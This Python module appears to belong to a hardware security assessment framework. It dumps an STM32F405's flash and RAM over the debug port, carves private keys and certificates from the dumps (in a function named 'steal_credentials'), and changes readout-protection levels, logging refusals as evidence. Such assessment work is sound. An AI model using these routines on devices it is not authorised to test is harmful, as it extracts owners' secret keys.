# SPDX-License-Identifier: Apache-2.0
"""Attacks through the debug port, as far as readout protection lets them (RM0090 3.7.3)."""

from __future__ import annotations

from cryptography.hazmat.primitives.asymmetric import ec

from offchip import chip_map
from offchip.attacks.carving import carve, carve_scalar
from offchip.attacks.evidence import Evidence, Loot
from offchip.engines.protocol import DebugPort
from offchip.errors import DebugAccessRefused

#: name -> (first address, bytes) of an STM32F405xG
REGIONS = {
    name: (region.start, region.size)
    for name, region in (("flash", chip_map.FLASH), ("sram", chip_map.SRAM), ("ccm", chip_map.CCM))
}


def dump(port: DebugPort, region: str, time_ns: int) -> tuple[bytes, Evidence]:
    """One region of REGIONS; the bytes are empty when the port refused, and the evidence says so."""
    address, size = REGIONS[region]
    where = f"{region} 0x{address:08X}"
    try:
        data = port.read(address, size)
    except DebugAccessRefused as refusal:
        return b"", Evidence("dump", where, time_ns, f"refused: {refusal}")
    return data, Evidence("dump", where, time_ns, f"{len(data)} bytes read at RDP level {port.rdp_level}")


def steal_credentials(port: DebugPort, time_ns: int, public_key: ec.EllipticCurvePublicKey | None = None) -> Loot:
    """Dump flash and both RAMs and carve them.

    With the device's ``public_key`` (its certificate is public) the RAMs are also searched for the bare scalar.
    """
    loot = Loot()
    for region in REGIONS:
        data, evidence = dump(port, region, time_ns)
        found = search(data, region, evidence, public_key)
        loot.evidence += found.evidence
        loot.keys += found.keys
        loot.certificates += found.certificates
    return loot


def search(data: bytes, region: str, evidence: Evidence, public_key: ec.EllipticCurvePublicKey | None = None) -> Loot:
    """Carve one dumped region; ``evidence`` is that of the dump."""
    keys, certificates = carve(data, region)
    if public_key is not None and region != "flash":
        scalar = carve_scalar(data, public_key, region)
        keys += [scalar] if scalar is not None else []
    return Loot([evidence], keys, certificates)


def set_protection(port: DebugPort, level: int, time_ns: int) -> Evidence:
    """Ask for another RDP level; from 1 to 0 the chip erases itself first."""
    before = port.rdp_level
    try:
        port.set_rdp(level)
    except DebugAccessRefused as refusal:
        detail = f"from level {before} to {level} refused: {refusal}"
    else:
        detail = f"level {before} became {port.rdp_level}"
    return Evidence("set readout protection", "option bytes", time_ns, detail, bytes([before]), bytes([port.rdp_level]))
